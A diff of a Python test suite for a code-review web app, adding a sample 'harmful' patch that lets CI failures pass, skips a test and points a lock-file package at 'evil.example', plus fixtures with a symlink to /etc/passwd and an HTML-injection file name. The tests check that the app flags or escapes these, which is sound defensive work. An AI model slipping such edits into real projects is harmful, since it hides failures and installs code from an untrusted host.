@@ -4,6 +4,7 @@ page.
 
 from __future__ import annotations
 
+import re
 from dataclasses import asdict, replace
 
 import pytest
@@ -12,7 +13,7 @@ from support.pages.pages_browser import visiting
 
 from jobs.blobs.manifest import FileEntry, Manifest
 from jobs.model.events import NewEvent
-from jobs.model.record import Push, Reason
+from jobs.model.record import PatchRef, Push, Reason
 from jobs.model.review import Action, Decision, Review, ReviewKind
 from jobs.store import Writes
 
@@ -31,6 +32,36 @@ new file mode 100644
 @@ -0,0 +1 @@
 +x
 """
+
+
+HARMFUL = b"""\
+diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml
+--- a/.github/workflows/ci.yml
++++ b/.github/workflows/ci.yml
+@@ -4,2 +4,3 @@ jobs:
+       - name: test
+         run: pytest
++        continue-on-error: true
+diff --git a/package-lock.json b/package-lock.json
+--- a/package-lock.json
++++ b/package-lock.json
+@@ -9,1 +9,1 @@
+-      "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz",
++      "resolved": "https://evil.example/left-pad/-/left-pad-1.3.0.tgz",
+diff --git a/src/dates.py b/src/dates.py
+--- a/src/dates.py
++++ b/src/dates.py
+@@ -1,1 +1,1 @@
+-A = 1
++A = 2
+diff --git a/tests/test_dates.py b/tests/test_dates.py
+--- a/tests/test_dates.py
++++ b/tests/test_dates.py
+@@ -7,1 +7,2 @@
++@pytest.mark.skip(reason="slow")
+ def test_before_1970():
+"""
+HIDDEN = re.compile(r'<input type="hidden" name="([^"]*)" value="([^"]*)"')
 
 
 @pytest.fixture
@@ -56,9 +87,6 @@ async def test_review_and_result_link_to_the_changes(front, is_ended):
         downloaded = await visit.get(f"/app/jobs/{job_id}/patch")
         assert downloaded.content == PATCH
         assert (await visit.get(f"/app/jobs/{job_id}/bundle")).status_code == 200
-        if not is_ended:
-            changes = await visit.get(f"/app/jobs/{job_id}/review/changes")
-            assert (changes.status_code, "No file has changed" in changes.text) == (200, False)
 
 
 async def test_the_result_links_to_its_delivery(front):
@@ -101,9 +129,16 @@ async def test_each_file_opens_separately_and_its_content_is_not_active(front):
     job_id = await front.patched(PATCH)
     async with visiting(front.app) as visit:
         html = (await visit.get(f"/app/jobs/{job_id}/changes")).text
-        assert '<details class="change" id="change-1" data-path="src/dates.py" open>' in html
-        assert ' id="change-2" data-path="&lt;img src=x&gt;ü.lock">' in html  # a lock file
-        assert html.count('href="#change-') == 2
+        opened = re.compile(
+            'id="change-2" data-path="src/dates.py" data-change="[0-9a-f]{16}" open>'
+        )
+        assert opened.search(html)
+        lock_file = re.compile(
+            'id="change-1" data-path="&lt;img src=x&gt;ü.lock" data-change="[^"]*">'
+        )
+        assert lock_file.search(html)
+        assert "folded: generated, by its name" in html
+        assert html.count('href="#change-') == 3, "in the tree, and the lock file to look at"
         assert '<span class="d-added" data-n="     2">+<span class="n">A</span>' in html
         assert '<span class="c1"># &lt;b&gt;</span></span>' in html
         assert "&lt;img src=x&gt;ü.lock" in html
@@ -111,21 +146,136 @@ async def test_each_file_opens_separately_and_its_content_is_not_active(front):
 
 
 async def test_a_patch_that_is_too_large_can_be_downloaded(front, monkeypatch):
-    monkeypatch.setattr("api.pages.views.job.MAX_BYTES", 10)
+    monkeypatch.setattr("api.changes.MAX_BYTES", 10)
     job_id = await front.patched(PATCH)
     async with visiting(front.app) as visit:
         html = (await visit.get(f"/app/jobs/{job_id}/changes")).text
-        assert "too large to show here" in html
+        assert "too large to show or to check here" in html
         assert f'href="/app/jobs/{job_id}/patch"' in html
 
 
-async def test_a_job_without_a_patch_has_no_page_of_changes(front):
-    job_id = await front.submit()
+async def test_a_repository_job_without_a_patch_has_no_changes(front):
+    job_id = await front.submit(repo={"url": "https://git.example.org/team/app.git"})
     async with visiting(front.app) as visit:
         assert "changes" not in (await visit.get(f"/app/jobs/{job_id}")).text
         answer = await visit.get(f"/app/jobs/{job_id}/changes")
-        assert answer.status_code == 404
-        assert "not on a repository" in answer.text
+        assert (answer.status_code, "comes with its review" in answer.text) == (404, True)
+    answer = await front.client.get(f"/jobs/{job_id}/changes")
+    assert (answer.status_code, answer.json()["detail"][:10]) == (404, "the job is")
+
+
+async def work_of(front, job_id: str, number: int, contents: dict[str, bytes], links=None):
+    """Let a worker leave these files, and open a review."""
+    lease = await front.claim(job_id)
+    artifacts = [await front.store_artifact(path, c, "text/plain") for path, c in contents.items()]
+    await front.run(lease, number, artifacts=artifacts)
+    entries = {one["name"]: FileEntry(one["digest"], one["size"]) for one in artifacts}
+    digest = await front.services.blobs.put(Manifest(entries, links=links or {}).dump())
+    store, operations = front.services.store, front.services.operations
+    await store.write(job_id, lease.epoch, Writes(workspace=digest))
+    payload = {"plan": [], "answer": "", "runs": [], "artifacts": artifacts, "unproven": None}
+    review = Review(f"r{number}", ReviewKind.REVIEW, payload, await store.now())
+    done(await operations.pause(lease, review))
+
+
+async def test_a_job_without_a_repository_has_the_same_view(front):
+    start = {"a.py": "A = '<b>'\nB = 2\n", "gone.py": "x\n", "same.py": "y\n", "bytes": "\0"}
+    job_id = await front.submit(review=True, files=start)
+    contents = {
+        "a.py": b"A = '<b>'\nB = 3\n",
+        "same.py": b"y\n",
+        "tests/test_a.py": b"def test_a():\n    assert True\n",
+        "bytes": b"\0\1",
+        "no newline": b"x",
+        "large.csv": b"1,2\n" * 100_000,
+        "café.txt": b"caf\xe9\n",
+    }
+    await work_of(front, job_id, 1, contents, {"link": "/etc/passwd"})
+    changed = (await front.client.get(f"/jobs/{job_id}/changes")).json()
+    assert (changed["since"], changed["patch"], changed["complete"]) == ("start", None, True)
+    files = {file["path"]: file for file in changed["files"]}
+    assert {path: file["notes"] for path, file in files.items()} == {
+        "a.py": [],
+        "bytes": ["binary"],
+        "café.txt": ["new"],
+        "gone.py": ["deleted"],
+        "large.csv": ["new"],
+        "link": ["new symbolic link"],
+        "no newline": ["new"],
+        "tests/test_a.py": ["new"],
+    }
+    assert (files["a.py"]["insertions"], files["a.py"]["deletions"]) == (1, 1)
+    assert files["large.csv"]["unread"] == "it has 390.6 KiB"
+    assert files["link"]["facts"] == ["symbolic link to `/etc/passwd`, outside the work"]
+    assert files["tests/test_a.py"]["facts"] == ["asserts a constant: `assert True`"]
+    assert files["a.py"]["facts"] == files["gone.py"]["facts"] == []
+    async with visiting(front.app) as visit:
+        job_page = (await visit.get(f"/app/jobs/{job_id}")).text
+        assert f'hx-get="/app/jobs/{job_id}/changes/shown"' in job_page
+        html = (await visit.get(f"/app/jobs/{job_id}/changes?view=split")).text
+        assert ("<mark>3</mark>" in html, "<b>" in html) == (True, False)
+        assert "Not shown here: it has 390.6 KiB." in html
+        assert "+caf\\xe9" in html
+        assert "No newline at end of file" in html
+        assert 'name="comments"' not in html, "no stored patch numbers the lines"
+        form = dict(HIDDEN.findall(html))
+        sent = await visit.post(f"/app/jobs/{job_id}/review", data={**form, "feedback": "More."})
+        assert sent.status_code == 204
+    secret = await front.key("read", tenant="other")
+    async with front.with_key(secret) as stranger:
+        assert (await stranger.get(f"/jobs/{job_id}/changes")).status_code == 404
+
+
+async def test_the_changes_since_the_last_pause(front):
+    job_id = await front.submit(review=True, files={"a.py": "A = 1\n"})
+    await work_of(front, job_id, 1, {"a.py": b"A = 2\n", "b.py": b"B = 1\n", "c.py": b"C\n"})
+    address = f"/jobs/{job_id}/changes"
+    assert (await front.client.get(f"{address}?since=pause")).status_code == 404
+    operations = front.services.operations
+    done(await operations.decide(job_id, Decision("r1", Action.REVISE, "ada", "More.")))
+    await work_of(front, job_id, 2, {"a.py": b"A = 3\n", "b.py": b"B = 1\n"})
+
+    async def paths(since: str) -> list[str]:
+        listed = (await front.client.get(f"{address}?since={since}")).json()["files"]
+        return [file["path"] for file in listed]
+
+    assert await paths("start") == ["a.py", "b.py"]
+    assert await paths("pause") == ["a.py", "c.py"]
+    async with visiting(front.app) as visit:
+        assert "?since=pause" in (await visit.get(f"/app/jobs/{job_id}/changes/shown")).text
+        html = plain((await visit.get(f"/app{address}?since=pause&view=split")).text)
+        assert ("-A = 2" in html, "+A = 3" in html, "since the last pause" in html) == (True,) * 3
+        assert (await visit.get(f"/app{address}?since=never")).status_code == 422
+
+
+def plain(html: str) -> str:
+    """The text without tags."""
+    return re.sub("<[^>]*>", "", html)
+
+
+async def test_a_patch_that_weakens_checks_says_so_in_json_and_on_the_page(front):
+    """It skips a test, lets CI fail, and takes a package from another host."""
+    job_id = await front.patched(HARMFUL)
+    files = (await front.client.get(f"/jobs/{job_id}/changes")).json()["files"]
+    assert {file["path"]: file["facts"] for file in files} == {
+        ".github/workflows/ci.yml": [
+            "continuous integration",
+            "a failed step may no longer count: `continue-on-error: true`",
+        ],
+        "package-lock.json": [
+            "lock file",
+            "generated, by its name",
+            "another host: `evil.example` (before: `registry.npmjs.org`)",
+        ],
+        "tests/test_dates.py": [
+            '1 test skipped or expected to fail: `@pytest.mark.skip(reason="slow")`'
+        ],
+        "src/dates.py": [],
+    }
+    async with visiting(front.app) as visit:
+        html = (await visit.get(f"/app/jobs/{job_id}/changes/shown")).text
+    assert html.index("What to look at") < html.index("another host: <code>evil.example</code>")
+    assert re.findall('data-path="([^"]*)"', html) == [file["path"] for file in files]
 
 
 async def test_another_tenant_sees_no_patch(front):
@@ -170,6 +320,11 @@ async def test_the_form_accepts_a_repository(front):
         assert (wrong.status_code, "begins with https://" in wrong.text) == (422, True)
 
 
+FIRST = b"diff --git a/a.py b/a.py\n--- a/a.py\n+++ b/a.py\n@@ -1 +1 @@\n-A = 1\n+A = 2\n"
+NEW = b"diff --git a/b.py b/b.py\n--- /dev/null\n+++ b/b.py\n@@ -0,0 +1 @@\n+B = 1\n"
+PATCHES = [FIRST, FIRST.replace(b"A = 2", b"A = 3") + NEW]
+
+
 async def test_after_a_revision_the_review_shows_its_changes(front):
     """Files that were changed before are compared with their earlier versions; all other changes
     are in the patch.
@@ -191,17 +346,17 @@ async def test_after_a_revision_the_review_shows_its_changes(front):
         workspace = Manifest(entries, frozenset({"gone.py"}), base="c0ffee")
         digest = await front.services.blobs.put(workspace.dump())
         await store.write(job_id, lease.epoch, Writes(workspace=digest))
-        payload = {"plan": [], "answer": "", "runs": [], "unproven": None}
+        patch = await front.services.blobs.put(PATCHES[number - 1])
+        await store.write(job_id, lease.epoch, Writes(blobs=[patch]))
+        reference = asdict(PatchRef(patch, len(PATCHES[number - 1]), 1, 1, 0, "c0ffee"))
+        payload = {"plan": [], "answer": "", "runs": [], "unproven": None, "patch": reference}
         review = Review(f"r{number}", ReviewKind.REVIEW, payload, await store.now())
         done(await operations.pause(lease, review))
         if number == 1:
-            async with visiting(front.app) as visit:
-                first = (await visit.get(f"/app/jobs/{job_id}/review/changes")).text
             done(await operations.decide(job_id, Decision("r1", Action.REVISE, "ada", "More.")))
-    assert "A = 2" not in first, "the patch has it"
     async with visiting(front.app) as visit:
-        html = (await visit.get(f"/app/jobs/{job_id}/review/changes")).text
-    assert '<span class="d-removed">-A = 2</span>' in html
-    assert '<span class="d-added">+A = 3</span>' in html
-    assert "not changed before: see the patch" in html
+        html = plain((await visit.get(f"/app/jobs/{job_id}/changes?since=pause")).text)
+    assert ("-A = 2" in html, "+A = 3" in html) == (True, True)
+    assert "+B = 1" in html, "its first change is in the patch only"
+    assert "A = 1" not in html
     assert "gone.py" not in html
